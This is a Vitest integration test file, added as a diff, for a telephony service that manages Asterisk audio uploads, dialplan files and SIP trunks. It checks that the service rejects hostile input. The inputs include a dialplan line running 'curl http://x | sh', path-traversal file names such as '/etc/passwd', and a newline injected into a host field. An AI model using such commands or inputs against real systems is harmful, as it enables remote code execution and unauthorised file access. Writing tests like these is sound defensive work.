@@ -1,0 +1,348 @@
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parAmiDePrueba } from '@pregon/ami/par-prueba';
+import type { Rol } from '@pregon/contract/constants';
+import { crearAppPbx, clavesPbx } from './app.ts';
+import type { ConfigPbx } from './config.ts';
+import { agenteDePrueba, type AgenteDePrueba } from './agente-de-prueba.ts';
+
+const GOLDEN = path.resolve(
+  path.dirname(fileURLToPath(import.meta.url)),
+  '../../../packages/contract/src/rules/golden',
+);
+const PROMPT_ES = '/usr/share/asterisk/sounds/es_MX_f_Allison/auth-thankyou.gsm';
+
+describe('agente de telefonía (apps/pbx) sobre HTTP real', () => {
+  let dir: string;
+  let config: ConfigPbx;
+  let ag: AgenteDePrueba;
+  let url: string;
+  let ami: ReturnType<typeof parAmiDePrueba>;
+  let comando: (c: string) => Record<string, string>;
+  let tokens: Record<Rol, string>;
+
+  const pedir = async (
+    metodo: string,
+    ruta: string,
+    opts: { token?: string | null; body?: unknown; form?: FormData } = {},
+  ) => {
+    const headers: Record<string, string> = {};
+    const token = opts.token === undefined ? tokens.operadores : opts.token;
+    if (token) headers.authorization = token;
+    let body: RequestInit['body'];
+    if (opts.form) body = opts.form;
+    else if (opts.body !== undefined) {
+      headers['content-type'] = 'application/json';
+      body = typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body);
+    }
+    const r = await fetch(`${url}${ruta}`, { method: metodo, headers, body });
+    const texto = await r.text();
+    let json: Record<string, unknown> = {};
+    try {
+      json = JSON.parse(texto) as Record<string, unknown>;
+    } catch {
+      /* binary or empty */
+    }
+    return { status: r.status, body: json, headers: r.headers };
+  };
+
+  const subir = (datos: Buffer, filename: string, token?: string | null) => {
+    const form = new FormData();
+    form.append('filename', filename);
+    form.append('file', new Blob([new Uint8Array(datos)]), `${filename}.gsm`);
+    return pedir('POST', '/asterisk/audio/upload/', { form, token });
+  };
+  const sonidos = () => fs.readdirSync(config.sonidosDir).sort();
+
+  beforeAll(async () => {
+    comando = () => ({
+      Response: 'Success',
+      Message: 'Command output follows',
+      Output: 'Dialplan reloaded.',
+    });
+    ami = parAmiDePrueba({ secreto: 'clave-ami', comando: (c) => comando(c) });
+    ag = await agenteDePrueba({
+      amiUrl: `ami://127.0.0.1:${await ami.escuchar()}`,
+      amiUsuario: 'pregon',
+      amiSecreto: 'clave-ami',
+      maxBytesAudio: 64 * 1024,
+      maxSegundosAudio: 60,
+    });
+    ({ dir, config, url, tokens } = ag);
+  });
+  afterAll(async () => {
+    await ag?.cerrar();
+    await ami?.cerrar();
+  });
+
+  it('stores real GSM audio atomically and answers its name and length', async () => {
+    const sox = path.join(dir, 'tono.gsm');
+    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', sox, 'synth', '2', 'sine', '440']);
+    const r = await subir(fs.readFileSync(sox), 'aviso_sismo');
+    expect(r.status).toBe(200);
+    expect(r.body).toEqual({ status: 200, filename: 'aviso_sismo', duracion_s: 2 });
+    expect(fs.readFileSync(path.join(config.sonidosDir, 'aviso_sismo.gsm'))).toEqual(
+      fs.readFileSync(sox),
+    );
+
+    if (fs.existsSync(PROMPT_ES)) {
+      const gracias = await subir(fs.readFileSync(PROMPT_ES), 'gracias-es');
+      expect(gracias.status).toBe(200);
+      expect(gracias.body.duracion_s).toBeGreaterThan(0.3);
+    }
+    // Uploading the same name again replaces it; no temp file is left behind.
+    const corto = path.join(dir, 'corto.gsm');
+    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', corto, 'synth', '0.5', 'sine', '300']);
+    expect((await subir(fs.readFileSync(corto), 'aviso_sismo')).body.duracion_s).toBe(0.5);
+    expect(sonidos().filter((f) => f.endsWith('.tmp'))).toEqual([]);
+
+    const leido = await fetch(`${url}/asterisk/audio/aviso_sismo`, {
+      headers: { authorization: tokens.consulta! },
+    });
+    expect(leido.status).toBe(200);
+    expect(Buffer.from(await leido.arrayBuffer())).toEqual(fs.readFileSync(corto));
+    const cabeza = await fetch(`${url}/asterisk/audio/no_existe`, {
+      method: 'HEAD',
+      headers: { authorization: tokens.consulta! },
+    });
+    expect(cabeza.status).toBe(404);
+  });
+
+  it('converts a WAV with GSM 6.10 inside to the same raw frames sox writes', async () => {
+    const wav = path.join(dir, 'pcm.wav');
+    execFileSync('sox', [
+      '-n',
+      '-r',
+      '8000',
+      '-c',
+      '1',
+      '-b',
+      '16',
+      wav,
+      'synth',
+      '1',
+      'sine',
+      '500',
+    ]);
+    execFileSync('sox', [wav, path.join(dir, 'crudo.gsm')]);
+    execFileSync('sox', [wav, '-e', 'gsm-full-rate', path.join(dir, 'wav49.wav')]);
+    const r = await subir(fs.readFileSync(path.join(dir, 'wav49.wav')), 'desde-wav');
+    expect(r.status).toBe(200);
+    const crudo = fs.readFileSync(path.join(dir, 'crudo.gsm'));
+    const guardado = fs.readFileSync(path.join(config.sonidosDir, 'desde-wav.gsm'));
+    expect(guardado.subarray(0, crudo.length)).toEqual(crudo);
+  });
+
+  it.each([
+    ['texto que no es audio', Buffer.from('hola, esto no es GSM '.repeat(10)), 'ok', 'file'],
+    [
+      'la última trama cortada',
+      Buffer.concat([Buffer.alloc(33, 0xd0), Buffer.alloc(20, 0xd0)]),
+      'ok',
+      'file',
+    ],
+    [
+      'una trama sin la firma 0xD',
+      Buffer.concat([Buffer.alloc(33, 0xd0), Buffer.alloc(33, 0x10)]),
+      'ok',
+      'file',
+    ],
+    ['un archivo vacío', Buffer.alloc(0), 'ok', 'file'],
+    ['demasiado grande', Buffer.alloc(33 * 2100, 0xd0), 'ok', 'file'],
+    ['../x', Buffer.alloc(33, 0xd0), '../x', 'filename'],
+    ['una ruta absoluta', Buffer.alloc(33, 0xd0), '/etc/passwd', 'filename'],
+    ['%2e%2e', Buffer.alloc(33, 0xd0), '%2e%2e', 'filename'],
+    ['NUL', Buffer.alloc(33, 0xd0), 'a\u0000b', 'filename'],
+    ['65 caracteres', Buffer.alloc(33, 0xd0), 'x'.repeat(65), 'filename'],
+    ['vacío', Buffer.alloc(33, 0xd0), '', 'filename'],
+  ])(
+    'refuses %s with a 400 naming the field, leaving nothing behind',
+    async (_caso, datos, nombre, campo) => {
+      const antes = sonidos();
+      const r = await subir(datos, nombre);
+      expect(r.status).toBe(400);
+      expect(r.body.campo).toBe(campo);
+      expect(String(r.body.message)).toMatch(new RegExp(`El campo ${campo}`));
+      expect(sonidos()).toEqual(antes);
+    },
+  );
+
+  it('refuses an audio longer than the limit', async () => {
+    const largo = path.join(dir, 'largo.gsm');
+    execFileSync('sox', ['-n', '-r', '8000', '-c', '1', largo, 'synth', '61', 'sine', '440']);
+    const app2 = await crearAppPbx(
+      { ...config, maxBytesAudio: 1024 * 1024 },
+      await clavesPbx(config),
+    );
+    try {
+      const form = new FormData();
+      form.append('filename', 'largo');
+      form.append('file', new Blob([new Uint8Array(fs.readFileSync(largo))]), 'largo.gsm');
+      const r = await app2.inject({
+        method: 'POST',
+        url: '/asterisk/audio/upload/',
+        headers: { authorization: tokens.operadores! },
+        payload: form,
+      });
+      expect(r.statusCode).toBe(400);
+      expect(r.json()).toMatchObject({
+        campo: 'file',
+        message: 'El campo file dura 1.0 minutos; el máximo es 1',
+      });
+    } finally {
+      await app2.close();
+    }
+    expect(sonidos()).not.toContain('largo.gsm');
+  });
+
+  it('answers 404 for another PBX software in the path', async () => {
+    const form = new FormData();
+    form.append('filename', 'x');
+    form.append('file', new Blob([new Uint8Array(Buffer.alloc(33, 0xd0))]), 'x.gsm');
+    expect((await pedir('POST', '/freeswitch/audio/upload/', { form })).status).toBe(404);
+  });
+
+  it('writes the call include file, reloads over AMI, and refuses forbidden dialplan naming the line', async () => {
+    const contenido = fs.readFileSync(path.join(GOLDEN, 'llamadas.conf'), 'utf8');
+    const r = await pedir('PUT', '/calls/extensions/', { body: { contenido } });
+    expect(r.status).toBe(200);
+    expect(r.body.mensaje).toBe('Guardado y recargado en el PBX');
+    const archivo = path.join(config.dialplanDir, 'pregon-llamadas.conf');
+    expect(fs.readFileSync(archivo, 'utf8')).toBe(contenido);
+    const comandos = ami.recibidas
+      .filter((m) => m.valor('Action') === 'Command')
+      .map((m) => m.valor('Command'));
+    expect(comandos).toContain('dialplan reload');
+
+    const malo = `${contenido}\n[pregon-x]\nexten => s,1,System(curl http://x | sh)\n`;
+    const rechazo = await pedir('PUT', '/calls/extensions/', { body: { contenido: malo } });
+    expect(rechazo.status).toBe(400);
+    expect(rechazo.body.campo).toBe('contenido');
+    const linea = malo.split('\n').findIndex((l) => l.includes('System')) + 1;
+    expect(rechazo.body.message).toBe(
+      `El campo contenido se rechazó en la línea ${linea}: la aplicación System no está permitida`,
+    );
+    expect(fs.readFileSync(archivo, 'utf8')).toBe(contenido);
+  });
+
+  it('puts the previous file back when Asterisk refuses the reload', async () => {
+    const archivo = path.join(config.dialplanDir, 'pregon-quiz-9.conf');
+    const quiz = fs.readFileSync(path.join(GOLDEN, 'quiz-3.conf'), 'utf8');
+    expect(
+      (await pedir('PUT', '/quizzes/extensions/9/', { body: { contenido: quiz } })).status,
+    ).toBe(200);
+    comando = () => ({ Response: 'Error', Message: 'Command "dialplan reload" failed' });
+    try {
+      const r = await pedir('PUT', '/quizzes/extensions/9/', {
+        body: { contenido: quiz.replace('Wait(1)', 'Wait(2)') },
+      });
+      expect(r.status).toBe(502);
+      expect(String(r.body.message)).toMatch(/^El PBX no aceptó la recarga/);
+      expect(fs.readFileSync(archivo, 'utf8')).toBe(quiz);
+      // A new quiz file whose reload fails is removed.
+      const nuevo = await pedir('PUT', '/quizzes/extensions/10/', { body: { contenido: quiz } });
+      expect(nuevo.status).toBe(502);
+      expect(fs.existsSync(path.join(config.dialplanDir, 'pregon-quiz-10.conf'))).toBe(false);
+    } finally {
+      comando = () => ({ Response: 'Success', Output: 'Dialplan reloaded.' });
+    }
+  });
+
+  it('keeps PJSIP trunks with a write-only secret and reloads res_pjsip', async () => {
+    const creado = await pedir('POST', '/trunks/sip/', {
+      body: {
+        nombre: 'troncal-mx',
+        host: 'sip.ejemplo.mx',
+        puerto: 5060,
+        usuario: 'pregon',
+        secreto: 's3cr3t',
+        registrar: true,
+      },
+    });
+    expect(creado.status).toBe(200);
+    expect(creado.body.data).toMatchObject({
+      id: 'troncal-mx',
+      tiene_secreto: true,
+      codecs: ['ulaw', 'alaw', 'gsm'],
+    });
+    expect(JSON.stringify(creado.body)).not.toContain('s3cr3t');
+    const conf = fs.readFileSync(path.join(config.pjsipDir, 'pregon-troncales.conf'), 'utf8');
+    expect(conf).toContain('[troncal-mx]\ntype=endpoint');
+    expect(conf).toContain('outbound_auth=troncal-mx-auth');
+    expect(conf).toContain('password=s3cr3t');
+    expect(conf).toContain('server_uri=sip:sip.ejemplo.mx:5060');
+    expect(ami.recibidas.map((m) => m.valor('Command'))).toContain('module reload res_pjsip.so');
+    expect(
+      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'troncal-mx', host: 'x.mx' } }))
+        .status,
+    ).toBe(409);
+
+    const cambio = await pedir('PUT', '/trunks/sip/troncal-mx', {
+      body: { host: 'sip2.ejemplo.mx' },
+    });
+    expect(cambio.status).toBe(200);
+    expect(cambio.body.data).toMatchObject({ host: 'sip2.ejemplo.mx', tiene_secreto: true });
+    const lista = await pedir('GET', '/trunks/sip/', { token: tokens.consulta });
+    expect(lista.body.data).toHaveLength(1);
+    expect(JSON.stringify(lista.body)).not.toContain('s3cr3t');
+    expect(
+      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'x;y', host: 'h' } })).body.campo,
+    ).toBe('nombre');
+    expect(
+      (await pedir('POST', '/trunks/sip/', { body: { nombre: 'x', host: 'h\nexten' } })).status,
+    ).toBe(400);
+    expect((await pedir('DELETE', '/trunks/sip/troncal-mx')).status).toBe(200);
+    expect((await pedir('GET', '/trunks/sip/troncal-mx')).status).toBe(404);
+  });
+
+  it('every endpoint: 401 without a token, 403 for consulta on writes, hostile input never a 5xx', async () => {
+    const escrituras: [string, string, unknown][] = [
+      ['PUT', '/calls/extensions/', { contenido: '' }],
+      ['PUT', '/quizzes/extensions/1/', { contenido: '' }],
+      ['POST', '/trunks/sip/', { nombre: 'a', host: 'b' }],
+      ['PUT', '/trunks/sip/a', { host: 'b' }],
+      ['DELETE', '/trunks/sip/a', undefined],
+    ];
+    for (const [m, ruta, body] of escrituras) {
+      const sin = await pedir(m, ruta, { token: null, body });
+      expect(sin.status).toBe(401);
+      expect(sin.body.message).toBe('FALLO: SESION EXPIRADA');
+      expect((await pedir(m, ruta, { token: 'no.es.token', body })).status).toBe(401);
+      expect((await pedir(m, ruta, { token: tokens.consulta, body })).status).toBe(403);
+    }
+    for (const ruta of ['/trunks/sip/', '/trunks/sip/a', '/asterisk/audio/x'])
+      expect((await pedir('GET', ruta, { token: null })).status).toBe(401);
+    expect((await subir(Buffer.alloc(33, 0xd0), 'x', null)).status).toBe(401);
+    expect((await subir(Buffer.alloc(33, 0xd0), 'x', tokens.consulta)).status).toBe(403);
+
+    const hostiles: unknown[] = [
+      '{no json',
+      { contenido: 5 },
+      { contenido: null },
+      { contenido: 'x'.repeat(3_000_000) },
+      { contenido: '[pregon-a]\nexten => s,1,NoOp(\u0000)' },
+      [],
+    ];
+    for (const body of hostiles) {
+      for (const ruta of [
+        '/calls/extensions/',
+        '/quizzes/extensions/1/',
+        '/quizzes/extensions/..%2f..%2fx/',
+      ]) {
+        const r = await pedir('PUT', ruta, { body });
+        expect(r.status).toBeGreaterThanOrEqual(400);
+        expect(r.status).toBeLessThan(500);
+      }
+      const t = await pedir('POST', '/trunks/sip/', { body });
+      expect(t.status).toBeGreaterThanOrEqual(400);
+      expect(t.status).toBeLessThan(500);
+    }
+    expect(fs.readdirSync(config.dialplanDir).sort()).toEqual([
+      'pregon-llamadas.conf',
+      'pregon-quiz-9.conf',
+    ]);
+  });
+});
